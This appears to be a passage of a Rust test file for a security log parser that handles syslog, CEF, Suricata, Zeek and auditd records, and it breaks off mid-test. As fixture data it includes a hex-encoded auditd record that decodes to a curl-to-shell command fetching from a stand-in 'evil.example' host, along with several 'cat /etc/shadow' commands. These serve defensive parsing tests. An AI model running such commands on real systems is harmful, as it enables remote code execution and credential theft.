//! Text line formats: syslog, CEF, Suricata EVE, Zeek JSON and auditd.
//!
//! Realistic samples with exact field values, times, logsource tags and errors, then property tests: no
//! input panics a parser, and generated records with escaped values read back to the values written.

use std::collections::BTreeMap;

use jiff::Timestamp;
use proptest::prelude::*;
use serde_json::{Value, json};
use vigil_event::{Event, Raw};
use vigil_parse::{Format, Origin, ParseError, auditd, cef, eve, parse_line, syslog, zeek};

fn origin() -> Origin {
    Origin::file("file", "/var/log/test.log")
}

fn ts(s: &str) -> Timestamp {
    s.parse().expect("valid timestamp")
}

/// A fixed "now" for BSD timestamps, which carry no year.
fn june_2024() -> Timestamp {
    ts("2024-06-01T12:00:00Z")
}

fn services(e: &Event) -> Vec<&str> {
    e.logsource.services.iter().map(AsRef::as_ref).collect()
}

fn categories(e: &Event) -> Vec<&str> {
    e.logsource.categories.iter().map(AsRef::as_ref).collect()
}

fn s<'a>(e: &'a Event, name: &str) -> Option<&'a str> {
    e.fields.get_str(name)
}

fn assert_error(result: Result<Event, ParseError>, code: &str, offset: u64) {
    match result {
        Ok(e) => panic!("expected {code}, parsed {:?}", e.fields),
        Err(err) => {
            assert_eq!(err.kind.code(), code, "{err}");
            assert_eq!(err.offset, offset);
            assert_eq!(err.path.as_deref(), Some("/var/log/test.log"));
            assert_eq!(&*err.input, "file");
        }
    }
}

// ---------------------------------------------------------------------------------------------------- syslog

#[test]
fn syslog_3164_sshd_failed_password() {
    let line = b"<38>Jan  2 03:04:05 web01 sshd[4242]: Failed password for invalid user admin from 203.0.113.9 port 52211 ssh2";
    let e = syslog::parse_at(line, &origin(), 77, june_2024()).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05Z")));
    assert_eq!(s(&e, "facility"), Some("auth"));
    assert_eq!(s(&e, "severity"), Some("info"));
    assert_eq!(e.fields.get("priority"), Some(&json!(38)));
    assert_eq!(s(&e, "host"), Some("web01"));
    assert_eq!(s(&e, "app_name"), Some("sshd"));
    assert_eq!(s(&e, "pid"), Some("4242"));
    assert_eq!(
        s(&e, "message"),
        Some("Failed password for invalid user admin from 203.0.113.9 port 52211 ssh2")
    );
    assert_eq!(s(&e, "syslog_format"), Some("rfc3164"));
    assert_eq!(s(&e, "timestamp"), Some("Jan  2 03:04:05"));
    assert_eq!(e.fields.get("msgid"), None);
    assert_eq!(e.logsource.product.as_deref(), Some("linux"));
    assert_eq!(services(&e), ["sshd", "auth", "syslog"]);
    assert!(categories(&e).is_empty());
    assert_eq!(e.source.offset, 77);
    assert_eq!(e.raw, Raw::Text(std::str::from_utf8(line).expect("ascii").into()));
}

#[test]
fn syslog_3164_local_file_line_without_pri() {
    let line = b"Jan 12 13:14:15 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow";
    let e = syslog::parse_at(line, &origin(), 0, june_2024()).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-12T13:14:15Z")));
    assert_eq!(e.fields.get("facility"), None);
    assert_eq!(e.fields.get("priority"), None);
    assert_eq!(s(&e, "host"), Some("web01"));
    assert_eq!(s(&e, "app_name"), Some("sudo"));
    assert_eq!(e.fields.get("pid"), None);
    assert_eq!(
        s(&e, "message"),
        Some("alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow")
    );
    assert_eq!(services(&e), ["sudo", "syslog"]);
}

#[test]
fn syslog_3164_without_hostname() {
    let line = b"<86>Dec 31 23:59:58 CRON[999]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)";
    // Read on New Year's day: the message is from the year before.
    let e = syslog::parse_at(line, &origin(), 0, ts("2025-01-01T00:00:30Z")).expect("parses");
    assert_eq!(e.time, Some(ts("2024-12-31T23:59:58Z")));
    assert_eq!(s(&e, "facility"), Some("authpriv"));
    assert_eq!(s(&e, "severity"), Some("info"));
    assert_eq!(e.fields.get("host"), None);
    assert_eq!(s(&e, "app_name"), Some("CRON"));
    assert_eq!(s(&e, "pid"), Some("999"));
    assert_eq!(
        s(&e, "message"),
        Some("pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
    );
    assert_eq!(services(&e), ["cron", "auth", "syslog"]);
}

#[test]
fn syslog_3164_rsyslog_high_precision_timestamp() {
    let line = b"2024-01-02T03:04:05.123456+01:00 web01 su[77]: FAILED SU (to root) alice on pts/1";
    let e = syslog::parse(line, &origin(), 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T02:04:05.123456Z")));
    assert_eq!(s(&e, "timestamp"), Some("2024-01-02T03:04:05.123456+01:00"));
    assert_eq!(s(&e, "host"), Some("web01"));
    assert_eq!(s(&e, "app_name"), Some("su"));
    assert_eq!(s(&e, "pid"), Some("77"));
    assert_eq!(s(&e, "message"), Some("FAILED SU (to root) alice on pts/1"));
    assert_eq!(services(&e), ["su", "syslog"]);
}

#[test]
fn syslog_3164_kernel_and_unknown_program() {
    let line = b"<4>Mar  5 10:00:00 fw kernel: [12345.678] IN=eth0 OUT= SRC=198.51.100.7 DST=10.0.0.5 PROTO=TCP";
    let e = syslog::parse_at(line, &origin(), 0, june_2024()).expect("parses");
    assert_eq!(s(&e, "facility"), Some("kern"));
    assert_eq!(s(&e, "severity"), Some("warning"));
    assert_eq!(s(&e, "app_name"), Some("kernel"));
    assert_eq!(
        s(&e, "message"),
        Some("[12345.678] IN=eth0 OUT= SRC=198.51.100.7 DST=10.0.0.5 PROTO=TCP")
    );
    assert_eq!(services(&e), ["syslog"]);
}

#[test]
fn syslog_3164_pri_without_timestamp_is_all_message() {
    let e = syslog::parse(b"<34>su: 'su root' failed for lonvick on /dev/pts/8", &origin(), 0).expect("parses");
    assert_eq!(e.time, None);
    assert_eq!(s(&e, "facility"), Some("auth"));
    assert_eq!(s(&e, "severity"), Some("crit"));
    assert_eq!(s(&e, "app_name"), Some("su"));
    assert_eq!(s(&e, "message"), Some("'su root' failed for lonvick on /dev/pts/8"));
    assert_eq!(services(&e), ["su", "auth", "syslog"]);
}

#[test]
fn syslog_openssh_98_sshd_session_is_service_sshd() {
    let line = b"<38>Feb 10 08:00:01 web01 sshd-session[5150]: Connection closed by authenticating user root 192.0.2.1 port 4000 [preauth]";
    let e = syslog::parse_at(line, &origin(), 0, june_2024()).expect("parses");
    assert_eq!(s(&e, "app_name"), Some("sshd-session"));
    assert_eq!(services(&e), ["sshd", "auth", "syslog"]);
}

#[test]
fn syslog_3164_pri_then_number_is_not_5424() {
    let e = syslog::parse(b"<13>10 users logged in", &origin(), 0).expect("parses");
    assert_eq!(s(&e, "syslog_format"), Some("rfc3164"));
    assert_eq!(s(&e, "message"), Some("10 users logged in"));
}

#[test]
fn syslog_5424_with_structured_data_and_bom() {
    let line = "<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 \
                [exampleSDID@32473 iut=\"3\" eventSource=\"Application\" eventID=\"1011\"]\
                [meta note=\"a \\\"quoted\\\" \\\\ back \\] bracket\" ip=\"10.0.0.1\" ip=\"10.0.0.2\"] \
                \u{feff}An application event log entry...";
    let e = syslog::parse(line.as_bytes(), &origin(), 5).expect("parses");
    assert_eq!(e.time, Some(ts("2003-10-11T22:14:15.003Z")));
    assert_eq!(s(&e, "facility"), Some("local4"));
    assert_eq!(s(&e, "severity"), Some("notice"));
    assert_eq!(e.fields.get("priority"), Some(&json!(165)));
    assert_eq!(s(&e, "host"), Some("mymachine.example.com"));
    assert_eq!(s(&e, "app_name"), Some("evntslog"));
    assert_eq!(e.fields.get("pid"), None);
    assert_eq!(s(&e, "msgid"), Some("ID47"));
    assert_eq!(s(&e, "timestamp"), Some("2003-10-11T22:14:15.003Z"));
    assert_eq!(s(&e, "syslog_format"), Some("rfc5424"));
    assert_eq!(s(&e, "message"), Some("An application event log entry..."));
    assert_eq!(s(&e, "sd.exampleSDID@32473.iut"), Some("3"));
    assert_eq!(s(&e, "sd.exampleSDID@32473.eventSource"), Some("Application"));
    assert_eq!(s(&e, "sd.meta.note"), Some(r#"a "quoted" \ back ] bracket"#));
    assert_eq!(e.fields.get("sd.meta.ip"), Some(&json!(["10.0.0.1", "10.0.0.2"])));
    assert_eq!(
        e.fields.get("structured_data"),
        Some(&json!({
            "exampleSDID@32473": {"iut": "3", "eventSource": "Application", "eventID": "1011"},
            "meta": {"note": "a \"quoted\" \\ back ] bracket", "ip": ["10.0.0.1", "10.0.0.2"]}
        }))
    );
    assert_eq!(
        e.fields.lookup("structured_data.exampleSDID@32473.eventID").as_deref(),
        Some(&json!("1011"))
    );
    assert_eq!(services(&e), ["syslog"]);
}

#[test]
fn syslog_5424_sshd_over_rsyslog() {
    let line =
        b"<38>1 2024-01-02T03:04:05.000001+00:00 bastion sshd 1234 - - Invalid user oracle from 192.0.2.4 port 4242";
    let e = syslog::parse(line, &origin(), 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05.000001Z")));
    assert_eq!(s(&e, "pid"), Some("1234"));
    assert_eq!(e.fields.get("msgid"), None);
    assert_eq!(e.fields.get("structured_data"), None);
    assert_eq!(s(&e, "message"), Some("Invalid user oracle from 192.0.2.4 port 4242"));
    assert_eq!(services(&e), ["sshd", "auth", "syslog"]);
}

#[test]
fn syslog_5424_all_nil_and_malformed_sd() {
    let e = syslog::parse(b"<14>1 - - - - - -", &origin(), 0).expect("parses");
    assert_eq!(e.time, None);
    for name in [
        "timestamp",
        "host",
        "app_name",
        "pid",
        "msgid",
        "message",
        "structured_data",
    ] {
        assert_eq!(e.fields.get(name), None, "{name}");
    }
    // Not well-formed SD: kept as the start of MSG rather than dropped.
    let e = syslog::parse(b"<14>1 - host app - - [broken sd", &origin(), 0).expect("parses");
    assert_eq!(s(&e, "message"), Some("[broken sd"));
    assert_eq!(e.fields.get("structured_data"), None);
}

#[test]
fn syslog_with_cef_body_gets_cef_fields() {
    let line = b"<134>Jan  2 03:04:05 fw01 CEF:0|Palo Alto Networks|PAN-OS|10.1.0|end|TRAFFIC|3|rt=Jan 02 2024 03:04:05 src=10.0.0.5 dst=8.8.8.8 act=allow";
    let e = syslog::parse_at(line, &origin(), 0, june_2024()).expect("parses");
    assert_eq!(s(&e, "host"), Some("fw01"));
    assert_eq!(e.fields.get("app_name"), None);
    assert_eq!(s(&e, "severity"), Some("info"), "syslog's severity is kept");
    assert_eq!(s(&e, "cef_severity"), Some("3"), "CEF's severity under cef_");
    assert_eq!(s(&e, "deviceVendor"), Some("Palo Alto Networks"));
    assert_eq!(s(&e, "name"), Some("TRAFFIC"));
    assert_eq!(s(&e, "src"), Some("10.0.0.5"));
    assert_eq!(s(&e, "act"), Some("allow"));
    assert!(s(&e, "message").is_some_and(|m| m.starts_with("CEF:0|Palo Alto")));
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05Z")));
}

#[test]
fn syslog_invalid_utf8_is_replaced_not_rejected() {
    let e = syslog::parse(b"<13>1 - host app - - - caf\xe9 ol\xe9", &origin(), 0).expect("parses");
    assert_eq!(s(&e, "message"), Some("caf\u{fffd} ol\u{fffd}"));
}

#[test]
fn syslog_errors_keep_kind_and_offset() {
    for bad in [
        &b"<999>Jan  2 03:04:05 host app: x"[..],
        b"<abc>hello",
        b"<13",
        b"<13>",
        b"hello world, not syslog",
        b"<13>1 2024-01-02T03:04:05Z host",
    ] {
        assert_error(syslog::parse(bad, &origin(), 4096), "invalid_syslog", 4096);
    }
}

#[test]
fn syslog_end_to_end() {
    let e = parse_line(
        Format::Syslog,
        b"  <38>1 2024-01-02T03:04:05Z h sshd 1 - - Accepted publickey for git\n",
        &origin(),
        9,
    )
    .expect("parses");
    assert_eq!(s(&e, "message"), Some("Accepted publickey for git"));
    assert_eq!(e.source.offset, 9);
    assert_error(parse_line(Format::Syslog, b"<999>", &origin(), 3), "invalid_syslog", 3);
}

// ---------------------------------------------------------------------------------------------------- CEF

const FORTIGATE: &str = r"CEF:0|Fortinet|Forti\|Gate|7.2.5|0000000013|traffic:forward close|3|rt=1704164645000 src=10.1.1.5 spt=51000 dst=93.184.216.34 dpt=443 act=close suser=CORP\\alice msg=Policy \= allow-web; path C:\\Temp\\x request=https://example.com/a?b\=c&d\=e cs1Label=Policy Name cs1=allow web cn1Label=Bytes cn1=4096 cs2Label=src cs2=shadowed";

#[test]
fn cef_firewall_record_with_escapes_and_labels() {
    let e = cef::parse(FORTIGATE.as_bytes(), &origin(), 12).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05Z")));
    let want = [
        ("cef_version", "0"),
        ("deviceVendor", "Fortinet"),
        ("deviceProduct", "Forti|Gate"),
        ("deviceVersion", "7.2.5"),
        ("deviceEventClassId", "0000000013"),
        ("name", "traffic:forward close"),
        ("severity", "3"),
        ("rt", "1704164645000"),
        ("src", "10.1.1.5"),
        ("spt", "51000"),
        ("dst", "93.184.216.34"),
        ("act", "close"),
        ("suser", r"CORP\alice"),
        ("msg", r"Policy = allow-web; path C:\Temp\x"),
        ("request", "https://example.com/a?b=c&d=e"),
        ("cs1Label", "Policy Name"),
        ("cs1", "allow web"),
        ("Policy Name", "allow web"),
        ("Bytes", "4096"),
    ];
    for (name, value) in want {
        assert_eq!(s(&e, name), Some(value), "{name}");
    }
    assert_eq!(
        s(&e, "src"),
        Some("10.1.1.5"),
        "a label never replaces an existing field"
    );
    assert_eq!(e.fields.get("syslog_header"), None);
    assert!(e.logsource.is_empty());
}

#[test]
fn cef_with_syslog_prefix_and_text_time() {
    let line = b"Jan  2 03:04:05 ids01 CEF:1|Trend Micro|Deep Security Agent|20.0|4000000|Eicar_test_file|6|cn1=1 cn1Label=Host ID dvchost=ids01 end=Jan 02 2024 03:04:05 UTC fname=eicar.com filePath=C:\\Users\\bob\\eicar.com";
    let e = cef::parse(line, &origin(), 0).expect("parses");
    assert_eq!(s(&e, "syslog_header"), Some("Jan  2 03:04:05 ids01"));
    assert_eq!(s(&e, "cef_version"), Some("1"));
    assert_eq!(s(&e, "name"), Some("Eicar_test_file"));
    assert_eq!(s(&e, "Host ID"), Some("1"));
    assert_eq!(s(&e, "end"), Some("Jan 02 2024 03:04:05 UTC"));
    assert_eq!(s(&e, "filePath"), Some(r"C:\Users\bob\eicar.com"));
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05Z")));
}

#[test]
fn cef_newlines_and_empty_extension() {
    let e = cef::parse(br"CEF:0|V|P|1|sig|multi|10|msg=line one\nline two\r", &origin(), 0).expect("parses");
    assert_eq!(s(&e, "msg"), Some("line one\nline two\r"));
    assert_eq!(e.time, None);
    let e = cef::parse(b"CEF:0|V|P|1|sig|n|Low|", &origin(), 0).expect("parses");
    assert_eq!(s(&e, "severity"), Some("Low"));
    assert_eq!(e.fields.len(), 7);
}

#[test]
fn cef_errors() {
    assert_error(
        cef::parse(b"CEF:0|Vendor|Product|1.0|100", &origin(), 55),
        "invalid_cef",
        55,
    );
    assert_error(cef::parse(b"no marker here", &origin(), 1), "invalid_cef", 1);
    assert_error(cef::parse(b"CEF:0|\xff|b|c|d|e|f|", &origin(), 2), "not_utf8", 2);
}

#[test]
fn cef_end_to_end() {
    let e = parse_line(Format::Cef, FORTIGATE.as_bytes(), &origin(), 1).expect("parses");
    assert_eq!(s(&e, "deviceProduct"), Some("Forti|Gate"));
    assert_error(parse_line(Format::Cef, b"CEF:0|a|b", &origin(), 8), "invalid_cef", 8);
}

// ---------------------------------------------------------------------------------------------------- EVE

const EVE_ALERT: &str = r#"{"timestamp":"2024-01-02T03:04:05.123456+0000","flow_id":1234567890123456,"in_iface":"eth0","event_type":"alert","src_ip":"10.0.0.5","src_port":51515,"dest_ip":"198.51.100.7","dest_port":80,"proto":"TCP","alert":{"action":"allowed","gid":1,"signature_id":2024897,"rev":3,"signature":"ET USER_AGENTS Go HTTP Client User-Agent","category":"Misc activity","severity":3},"http":{"hostname":"198.51.100.7","url":"/x","http_user_agent":"Go-http-client/1.1","http_method":"GET","status":200}}"#;

#[test]
fn eve_alert() {
    let e = eve::parse(EVE_ALERT.as_bytes(), &origin(), 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05.123456Z")));
    assert_eq!(e.logsource.product.as_deref(), Some("suricata"));
    assert_eq!(services(&e), ["alert"]);
    assert!(categories(&e).is_empty());
    assert_eq!(e.fields.get("flow_id"), Some(&json!(1234567890123456_u64)));
    assert_eq!(s(&e, "src_ip"), Some("10.0.0.5"));
    assert_eq!(e.fields.get("alert.signature"), None, "not flattened");
    assert_eq!(
        e.fields.lookup("alert.signature").as_deref(),
        Some(&json!("ET USER_AGENTS Go HTTP Client User-Agent"))
    );
    assert_eq!(e.fields.lookup("alert.signature_id").as_deref(), Some(&json!(2024897)));
    assert_eq!(
        e.fields.lookup("http.http_user_agent").as_deref(),
        Some(&json!("Go-http-client/1.1"))
    );
    assert_eq!(
        e.raw,
        Raw::JsonText(EVE_ALERT.into()),
        "JSON text: keywords search values, not keys"
    );
}

#[test]
fn eve_dns_and_http() {
    let dns = br#"{"timestamp":"2024-01-02T03:04:05.000000+0100","flow_id":42,"event_type":"dns","src_ip":"10.0.0.5","dest_ip":"10.0.0.53","proto":"UDP","dns":{"type":"query","id":4711,"rrname":"evil.example.com","rrtype":"A","tx_id":0}}"#;
    let e = eve::parse(dns, &origin(), 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T02:04:05Z")));
    assert_eq!(services(&e), ["dns"]);
    assert_eq!(categories(&e), ["dns"]);
    assert_eq!(
        e.fields.lookup("dns.rrname").as_deref(),
        Some(&json!("evil.example.com"))
    );

    let http = br#"{"timestamp":"2024-01-02T03:04:05.5+0000","flow_id":7,"event_type":"http","http":{"hostname":"example.com","url":"/wp-login.php","http_method":"POST","status":302,"length":0}}"#;
    let e = eve::parse(http, &origin(), 0).expect("parses");
    assert_eq!(services(&e), ["http"]);
    assert!(categories(&e).is_empty());
    assert_eq!(e.fields.lookup("http.url").as_deref(), Some(&json!("/wp-login.php")));

    let other = br#"{"timestamp":"not a time","event_type":"quic"}"#;
    let e = eve::parse(other, &origin(), 0).expect("parses");
    assert_eq!(e.time, None);
    assert!(services(&e).is_empty());
}

#[test]
fn eve_errors() {
    assert_error(eve::parse(b"[1,2]", &origin(), 10), "not_an_object", 10);
    assert_error(eve::parse(b"\"text\"", &origin(), 10), "not_an_object", 10);
    assert_error(eve::parse(b"{\"event_type\":", &origin(), 11), "invalid_json", 11);
    assert_error(eve::parse(b"{\"a\":\"\xff\"}", &origin(), 12), "not_utf8", 12);
}

#[test]
fn eve_end_to_end() {
    let e = parse_line(Format::SuricataEve, EVE_ALERT.as_bytes(), &origin(), 3).expect("parses");
    assert_eq!(services(&e), ["alert"]);
    assert_error(
        parse_line(Format::SuricataEve, b"null", &origin(), 4),
        "not_an_object",
        4,
    );
}

// ---------------------------------------------------------------------------------------------------- Zeek

const ZEEK_CONN: &str = r#"{"ts":1704164645.5,"uid":"CAbc1234567890xyz","id.orig_h":"10.0.0.5","id.orig_p":51000,"id.resp_h":"93.184.216.34","id.resp_p":443,"proto":"tcp","service":"ssl","duration":1.5,"orig_bytes":100,"resp_bytes":2000,"conn_state":"SF","local_orig":true,"missed_bytes":0,"history":"ShADadFf","orig_pkts":10,"resp_pkts":12}"#;

#[test]
fn zeek_conn_from_file_name() {
    let origin = Origin::file("file", "/opt/zeek/logs/current/conn.log");
    let e = zeek::parse(ZEEK_CONN.as_bytes(), &origin, 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05.5Z")));
    assert_eq!(e.logsource.product.as_deref(), Some("zeek"));
    assert_eq!(services(&e), ["conn"]);
    assert!(categories(&e).is_empty());
    assert_eq!(s(&e, "id.orig_h"), Some("10.0.0.5"), "flat key with a dot");
    assert_eq!(e.fields.get("id.resp_p"), Some(&json!(443)));
    assert_eq!(e.fields.get("id"), None);
    assert_eq!(s(&e, "conn_state"), Some("SF"));
}

#[test]
fn zeek_dns_path_member_wins_and_iso_ts() {
    let line = br#"{"_path":"dns","ts":"2024-01-02T03:04:05.123456Z","uid":"Cx1","id.orig_h":"10.0.0.5","id.orig_p":5353,"id.resp_h":"10.0.0.53","id.resp_p":53,"proto":"udp","query":"evil.example.com","qtype_name":"A","rcode_name":"NOERROR","answers":["203.0.113.66"],"TTLs":[300.0]}"#;
    let origin = Origin::file("file", "/data/conn.log");
    let e = zeek::parse(line, &origin, 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05.123456Z")));
    assert_eq!(services(&e), ["dns"]);
    assert_eq!(categories(&e), ["dns"]);
    assert_eq!(e.fields.get("answers"), Some(&json!(["203.0.113.66"])));
    assert_eq!(s(&e, "query"), Some("evil.example.com"));
}

#[test]
fn zeek_unknown_log_type_and_no_path() {
    let e = zeek::parse(br#"{"ts":1704164645,"note":"x"}"#, &Origin::default(), 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05Z")));
    assert_eq!(e.logsource.product.as_deref(), Some("zeek"));
    assert!(services(&e).is_empty());
    let e = zeek::parse(br#"{"_path":"capture_loss","ts":1}"#, &origin(), 0).expect("parses");
    assert!(services(&e).is_empty());
}

#[test]
fn zeek_service_from_rotated_and_json_names() {
    assert_eq!(zeek::service_from_path("dns.2024-01-02-00-00-00.log"), Some("dns"));
    assert_eq!(zeek::service_from_path("x509.json"), Some("x509"));
    assert_eq!(zeek::service_from_path("dce_rpc.log"), Some("dce_rpc"));
    assert_eq!(zeek::service_from_path("dns.log.gz"), None);
}

#[test]
fn zeek_errors_and_end_to_end() {
    assert_error(zeek::parse(b"{oops", &origin(), 20), "invalid_json", 20);
    assert_error(zeek::parse(b"42", &origin(), 21), "not_an_object", 21);
    let origin = Origin::file("file", "http.log");
    let e = parse_line(Format::Zeek, br#"{"ts":1.0,"method":"GET"}"#, &origin, 0).expect("parses");
    assert_eq!(services(&e), ["http"]);
}

// ---------------------------------------------------------------------------------------------------- auditd

#[test]
fn auditd_execve_with_hex_argument() {
    let line = br#"type=EXECVE msg=audit(1704164645.123:456): argc=3 a0="ls" a1=2D6C61 a2="/tmp""#;
    let e = auditd::parse(line, &origin(), 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05.123Z")));
    assert_eq!(s(&e, "type"), Some("EXECVE"));
    assert_eq!(s(&e, "audit_serial"), Some("456"));
    assert_eq!(s(&e, "argc"), Some("3"));
    assert_eq!(s(&e, "a0"), Some("ls"));
    assert_eq!(s(&e, "a1"), Some("-la"));
    assert_eq!(s(&e, "a2"), Some("/tmp"));
    assert_eq!(e.fields.get("node"), None);
    assert_eq!(e.fields.get("msg"), None);
    assert_eq!(e.logsource.product.as_deref(), Some("linux"));
    assert_eq!(services(&e), ["auditd"]);
}

#[test]
fn auditd_syscall_with_node_and_enriched_fields() {
    let line = b"node=web01 type=SYSCALL msg=audit(1704164645.000:457): arch=c000003e syscall=59 success=yes exit=0 a0=55d0e0a8c2a0 a1=55d0e0a8c4e0 a2=55d0e0a8c528 a3=8 items=2 ppid=1000 pid=1001 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"cat\" exe=\"/usr/bin/cat\" subj=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023 key=\"etc_shadow\"\x1dARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\" GID=\"root\"";
    let e = auditd::parse(line, &origin(), 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05Z")));
    assert_eq!(
        e.fields.keys().take(3).collect::<Vec<_>>(),
        ["node", "type", "audit_serial"]
    );
    assert_eq!(s(&e, "node"), Some("web01"));
    assert_eq!(s(&e, "syscall"), Some("59"));
    assert_eq!(
        s(&e, "a0"),
        Some("55d0e0a8c2a0"),
        "SYSCALL arguments are registers, not hex text"
    );
    assert_eq!(s(&e, "comm"), Some("cat"));
    assert_eq!(s(&e, "exe"), Some("/usr/bin/cat"));
    assert_eq!(s(&e, "key"), Some("etc_shadow"));
    assert_eq!(
        s(&e, "subj"),
        Some("unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023")
    );
    assert_eq!(s(&e, "SYSCALL"), Some("execve"));
    assert_eq!(s(&e, "AUID"), Some("alice"));
    assert_eq!(s(&e, "UID"), Some("root"));
    assert_eq!(e.fields.get("audit_text"), None);
}

#[test]
fn auditd_user_login_nested_msg() {
    let line = b"type=USER_LOGIN msg=audit(1704164645.500:789): pid=2345 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login acct=28696E76616C6964207573657229 exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 terminal=sshd res=failed'\x1dUID=\"root\" AUID=\"unset\"";
    let e = auditd::parse(line, &origin(), 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05.5Z")));
    assert_eq!(s(&e, "type"), Some("USER_LOGIN"));
    assert_eq!(s(&e, "audit_serial"), Some("789"));
    assert_eq!(s(&e, "pid"), Some("2345"));
    assert_eq!(s(&e, "op"), Some("login"));
    assert_eq!(s(&e, "acct"), Some("(invalid user)"));
    assert_eq!(s(&e, "exe"), Some("/usr/sbin/sshd"));
    assert_eq!(s(&e, "hostname"), Some("?"));
    assert_eq!(s(&e, "addr"), Some("203.0.113.9"));
    assert_eq!(s(&e, "res"), Some("failed"));
    assert_eq!(s(&e, "AUID"), Some("unset"));
    assert_eq!(e.fields.get("msg"), None);
}

#[test]
fn auditd_proctitle_cwd_and_path() {
    let line = b"type=PROCTITLE msg=audit(1704164645.123:456): proctitle=2F62696E2F62617368002D63006375726C20687474703A2F2F6576696C2E6578616D706C652F78207C207368";
    let e = auditd::parse(line, &origin(), 0).expect("parses");
    assert_eq!(s(&e, "proctitle"), Some("/bin/bash -c curl http://evil.example/x | sh"));
    let e = auditd::parse(
        b"type=CWD msg=audit(1704164645.123:456): cwd=2F746D702F6D7920646972",
        &origin(),
        0,
    )
    .expect("parses");
    assert_eq!(s(&e, "cwd"), Some("/tmp/my dir"));
    let line = br#"type=PATH msg=audit(1704164645.123:456): item=0 name="/etc/shadow" inode=1234 dev=08:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0"#;
    let e = auditd::parse(line, &origin(), 0).expect("parses");
    assert_eq!(s(&e, "name"), Some("/etc/shadow"));
    assert_eq!(s(&e, "dev"), Some("08:01"));
    assert_eq!(s(&e, "mode"), Some("0100640"), "not a hex-encoded field");
}

#[test]
fn auditd_long_execve_argument_chunks_are_joined() {
    let line = br#"type=EXECVE msg=audit(1704164645.123:456): argc=2 a0="python3" a1_len=10 a1[0]=68656C6C6F a1[1]=776F726C64"#;
    let e = auditd::parse(line, &origin(), 0).expect("parses");
    assert_eq!(s(&e, "a1[0]"), Some("hello"));
    assert_eq!(s(&e, "a1[1]"), Some("world"));
    assert_eq!(s(&e, "a1"), Some("helloworld"));
    assert_eq!(s(&e, "a1_len"), Some("10"));
}

#[test]
fn auditd_avc_words_are_kept() {
    let line = br#"type=AVC msg=audit(1704164645.123:9): avc:  denied  { read } for  pid=1234 comm="cat" name="shadow" dev="sda1" ino=42 scontext=system_u:system_r:httpd_t:s0 tcontext=system_u:object_r:shadow_t:s0 tclass=file permissive=0"#;
    let e = auditd::parse(line, &origin(), 0).expect("parses");
    assert_eq!(s(&e, "audit_text"), Some("avc: denied { read } for"));
    assert_eq!(s(&e, "tclass"), Some("file"));
}

#[test]
fn auditd_errors() {
    assert_error(
        auditd::parse(b"msg=audit(1704164645.123:1): a=b", &origin(), 30),
        "invalid_auditd",
        30,
    );
    assert_error(
        auditd::parse(b"type=SYSCALL arch=c000003e", &origin(), 31),
        "invalid_auditd",
        31,
    );
    assert_error(
        auditd::parse(b"type=SYSCALL msg=audit(yesterday:1): x=1", &origin(), 32),
        "invalid_auditd",
        32,
    );
    assert_error(
        auditd::parse(b"type=SYSCALL msg=audit(1.1:1): comm=\"\xff\"", &origin(), 33),
        "not_utf8",
        33,
    );
}

#[test]
fn auditd_end_to_end() {
    let line = br#"type=USER_CMD msg=audit(1704164645.123:99): pid=1 uid=1000 auid=1000 ses=1 msg='cwd="/home/alice" cmd=636174202F6574632F736861646F77 exe="/usr/bin/sudo" terminal=pts/0 res=success'"#;
    let e = parse_line(Format::Auditd, line, &origin(), 6).expect("parses");
    assert_eq!(s(&e, "cmd"), Some("cat /etc/shadow"));
    assert_eq!(s(&e, "cwd"), Some("/home/alice"));
    assert_error(parse_line(Format::Auditd, b"hello", &origin(), 7), "invalid_auditd", 7);
}

// ---------------------------------------------------------------------------------------------------- limits

/// Records near the 1 MiB limit made of many small parts: parsing stays linear (this test would hang, not
/// fail, if a parser were quadratic in the number of parts).
#[test]
fn huge_records_with_many_parts() {
    const MAX: usize = 1 << 20;
    let fill = |head: &str, part: &str| {
        let mut line = head.to_string();
        while line.len() + part.len() < MAX - 64 {
            line.push_str(part);
        }
        line
    };
    let sd = fill("<13>1 - h a - - [x", " p=\"v\"") + "] msg";
    let e = parse_line(Format::Syslog, sd.as_bytes(), &origin(), 0).expect("parses");
    assert!(
        e.fields
            .get("sd.x.p")
            .and_then(Value::as_array)
            .is_some_and(|a| a.len() > 100_000)
    );
    let sd_ids = fill("<13>1 - h a - - ", "[i a=\"1\"]");
    assert!(parse_line(Format::Syslog, sd_ids.as_bytes(), &origin(), 0).is_ok());
    let cef = fill("CEF:0|v|p|1|c|n|1|", "k=v ");
    assert!(parse_line(Format::Cef, cef.as_bytes(), &origin(), 0).is_ok());
    let cef_keys: String = (0..60_000).map(|i| format!("k{i}=v\\= ")).collect();
    let e = parse_line(
